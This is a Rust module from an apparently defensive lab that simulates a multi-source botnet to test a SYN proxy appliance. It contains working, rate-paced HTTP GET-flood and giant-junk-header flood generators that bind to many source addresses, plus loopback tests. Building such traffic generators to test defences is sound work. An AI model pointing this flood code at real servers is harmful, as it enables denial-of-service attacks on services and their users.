//! The lab's botnet: real TCP clients from many source addresses (the attacker namespace owns a
//! whole prefix through an AnyIP route: `ip route add local PREFIX dev lo`), sending HTTP
//! requests through the SYN proxy like the two HTTP floods behind this appliance:
//!
//! * [`Kind::Get`]: a GET flood — keep-alive connections, `per_conn` requests each, paced to a
//!   total request rate over all sources;
//! * [`Kind::Junk`]: requests with giant made-up headers (`X-Array-Buffer`, `Ddddd-1` … filled
//!   with `iiii…`) behind a browser user agent.
//!
//! Each connection is bound to the next source of the prefix (`socket2`: bind before connect).
//! Every flood is bounded by its duration; connections time out quickly so that refused or
//! banned sources do not stall the others.

use std::io::{self, BufRead, BufReader, Read, Write};
use std::net::{IpAddr, Ipv4Addr, SocketAddr, TcpStream};
use std::sync::atomic::{AtomicU64, Ordering::Relaxed};
use std::sync::Arc;
use std::time::{Duration, Instant};

use serde::{Deserialize, Serialize};
use socket2::{Domain, Socket, Type};

/// What the bots send.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Serialize, Deserialize)]
pub enum Kind {
    /// Plain GETs on keep-alive connections.
    Get,
    /// One request with giant junk headers per connection.
    Junk,
}

/// A botnet run.
#[derive(Clone, Debug)]
pub struct BotnetOptions {
    /// The server.
    pub to: SocketAddr,
    /// First source address.
    pub first: Ipv4Addr,
    /// Number of source addresses (consecutive from `first`).
    pub sources: u32,
    /// What to send.
    pub kind: Kind,
    /// Requests per second offered, over all sources (a request whose connection cannot be
    /// opened counts as offered).
    pub rate: u64,
    /// How long.
    pub duration: Duration,
    /// Requests per connection (GET flood).
    pub per_conn: u32,
    /// Client threads.
    pub threads: usize,
    /// Connect and read timeout.
    pub timeout: Duration,
    /// Bytes of junk per made-up header (junk flood).
    pub junk_bytes: usize,
}

/// What a run did (as the bots saw it).
#[derive(Clone, Debug, Default, PartialEq, Serialize, Deserialize)]
pub struct BotnetReport {
    /// Requests offered (paced slots taken).
    pub offered: u64,
    /// Requests written on an open connection.
    pub sent: u64,
    /// Complete `200` answers read.
    pub answered: u64,
    /// Connections opened.
    pub connects: u64,
    /// Connections that could not be opened (timeout, refused, reset).
    pub connect_failed: u64,
    /// Connections reset or closed before an answer.
    pub cut: u64,
    /// Sources used.
    pub sources: u32,
    /// Seconds the run took.
    pub seconds: f64,
}

/// A junk-header request shaped like the seed incident's.
pub fn junk_request(host: &str, each: usize) -> Vec<u8> {
    let mut v = format!(
        "GET / HTTP/1.1\r\nHost: {host}\r\nUser-Agent: Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 \
         (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36\r\nAccept: text/html,application/xhtml+xml\r\n"
    )
    .into_bytes();
    for name in ["X-Array-Buffer", "Ddddd-1", "Ddddd-2", "X-Iiii"] {
        v.extend_from_slice(name.as_bytes());
        v.extend_from_slice(b": ");
        v.extend(std::iter::repeat_n(b'i', each));
        v.extend_from_slice(b"\r\n");
    }
    v.extend_from_slice(b"\r\n");
    v
}

/// Read one HTTP answer; `Ok(true)` for a complete 200.
fn read_answer(r: &mut BufReader<TcpStream>) -> io::Result<bool> {
    let mut status = String::new();
    if r.read_line(&mut status)? == 0 {
        return Err(io::ErrorKind::UnexpectedEof.into());
    }
    let mut len = 0usize;
    loop {
        let mut l = String::new();
        if r.read_line(&mut l)? == 0 {
            return Err(io::ErrorKind::UnexpectedEof.into());
        }
        let t = l.trim();
        if t.is_empty() {
            break;
        }
        if let Some(v) = t.to_ascii_lowercase().strip_prefix("content-length:") {
            len = v.trim().parse().unwrap_or(0);
        }
    }
    let mut body = vec![0u8; len.min(1 << 20)];
    r.read_exact(&mut body)?;
    Ok(status.split_whitespace().nth(1) == Some("200"))
}

struct Pace {
    t0: Instant,
    rate: u64,
    taken: AtomicU64,
}

impl Pace {
    /// Wait for the next request slot; `false` when the run is over.
    fn take(&self, end: Instant) -> bool {
        loop {
            let now = Instant::now();
            if now >= end {
                return false;
            }
            let allowed = (now - self.t0).as_secs_f64() * self.rate as f64 + 1.0;
            let t = self.taken.load(Relaxed);
            if (t as f64) < allowed {
                if self.taken.compare_exchange(t, t + 1, Relaxed, Relaxed).is_ok() {
                    return true;
                }
                continue;
            }
            std::thread::sleep(Duration::from_micros(500));
        }
    }
}

#[derive(Default)]
struct Tally {
    sent: AtomicU64,
    answered: AtomicU64,
    connects: AtomicU64,
    connect_failed: AtomicU64,
    cut: AtomicU64,
}

fn open(src: Ipv4Addr, to: SocketAddr, timeout: Duration) -> io::Result<TcpStream> {
    let s = Socket::new(Domain::IPV4, Type::STREAM, None)?;
    s.bind(&SocketAddr::new(IpAddr::V4(src), 0).into())?;
    s.connect_timeout(&to.into(), timeout)?;
    let t: TcpStream = s.into();
    t.set_read_timeout(Some(timeout))?;
    t.set_write_timeout(Some(timeout))?;
    t.set_nodelay(true)?;
    Ok(t)
}

/// Run the botnet until its duration is over.
pub fn run(o: &BotnetOptions) -> BotnetReport {
    let t0 = Instant::now();
    let end = t0 + o.duration;
    let pace = Arc::new(Pace { t0, rate: o.rate.max(1), taken: AtomicU64::new(0) });
    let tally = Arc::new(Tally::default());
    let next_src = Arc::new(AtomicU64::new(0));
    let junk = Arc::new(junk_request("web", o.junk_bytes));
    let handles: Vec<_> = (0..o.threads.max(1))
        .map(|_| {
            let (pace, tally, next_src, junk, o) =
                (Arc::clone(&pace), Arc::clone(&tally), Arc::clone(&next_src), Arc::clone(&junk), o.clone());
            std::thread::spawn(move || {
                while pace.take(end) {
                    let i = next_src.fetch_add(1, Relaxed) % u64::from(o.sources.max(1));
                    let src = Ipv4Addr::from(u32::from(o.first).wrapping_add(i as u32));
                    let s = match open(src, o.to, o.timeout) {
                        Ok(s) => s,
                        Err(_) => {
                            tally.connect_failed.fetch_add(1, Relaxed);
                            // The other requests this connection would have carried are offered too.
                            let more = if o.kind == Kind::Get { o.per_conn.saturating_sub(1) } else { 0 };
                            for _ in 0..more {
                                if !pace.take(end) {
                                    break;
                                }
                            }
                            continue;
                        }
                    };
                    tally.connects.fetch_add(1, Relaxed);
                    let mut w = match s.try_clone() {
                        Ok(w) => w,
                        Err(_) => continue,
                    };
                    let mut r = BufReader::new(s);
                    let n = if o.kind == Kind::Get { o.per_conn.max(1) } else { 1 };
                    for k in 0..n {
                        if k > 0 && !pace.take(end) {
                            break;
                        }
                        let req: &[u8] = match o.kind {
                            Kind::Get => b"GET / HTTP/1.1\r\nHost: web\r\nUser-Agent: Mozilla/5.0 Chrome/120.0\r\nAccept: */*\r\n\r\n",
                            Kind::Junk => &junk,
                        };
                        if w.write_all(req).is_err() {
                            tally.cut.fetch_add(1, Relaxed);
                            break;
                        }
                        tally.sent.fetch_add(1, Relaxed);
                        match read_answer(&mut r) {
                            Ok(true) => {
                                tally.answered.fetch_add(1, Relaxed);
                            }
                            Ok(false) => {}
                            Err(_) => {
                                tally.cut.fetch_add(1, Relaxed);
                                break;
                            }
                        }
                    }
                }
            })
        })
        .collect();
    for h in handles {
        let _ = h.join();
    }
    BotnetReport {
        offered: pace.taken.load(Relaxed),
        sent: tally.sent.load(Relaxed),
        answered: tally.answered.load(Relaxed),
        connects: tally.connects.load(Relaxed),
        connect_failed: tally.connect_failed.load(Relaxed),
        cut: tally.cut.load(Relaxed),
        sources: o.sources,
        seconds: (t0.elapsed().as_millis() as f64) / 1000.0,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn junk_is_shaped_like_the_seed() {
        let j = junk_request("web", 3000);
        let t = String::from_utf8(j.clone()).unwrap();
        assert!(t.starts_with("GET / HTTP/1.1\r\n") && t.ends_with("\r\n\r\n"));
        assert!(t.contains("Chrome/120") && t.contains("X-Array-Buffer: iiii") && t.contains("Ddddd-1: "));
        assert!(j.len() > 12_000);
    }

    #[test]
    fn gets_from_loopback_sources_are_answered() {
        // 127.0.0.0/8 is local: bind to several sources of it without any route.
        let stop = Arc::new(std::sync::atomic::AtomicBool::new(false));
        let l = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
        let addr = l.local_addr().unwrap();
        drop(l);
        let st = Arc::clone(&stop);
        let srv = std::thread::spawn(move || super::super::peer::serve(addr, st));
        std::thread::sleep(Duration::from_millis(100));
        let r = run(&BotnetOptions {
            to: addr,
            first: Ipv4Addr::new(127, 0, 0, 10),
            sources: 4,
            kind: Kind::Get,
            rate: 200,
            duration: Duration::from_millis(500),
            per_conn: 5,
            threads: 4,
            timeout: Duration::from_secs(2),
            junk_bytes: 0,
        });
        stop.store(true, std::sync::atomic::Ordering::Relaxed);
        let _ = srv.join();
        assert!(r.answered >= 50 && r.answered == r.sent, "{r:?}");
        assert!(r.connects >= 10 && r.connect_failed == 0, "{r:?}");
    }
}
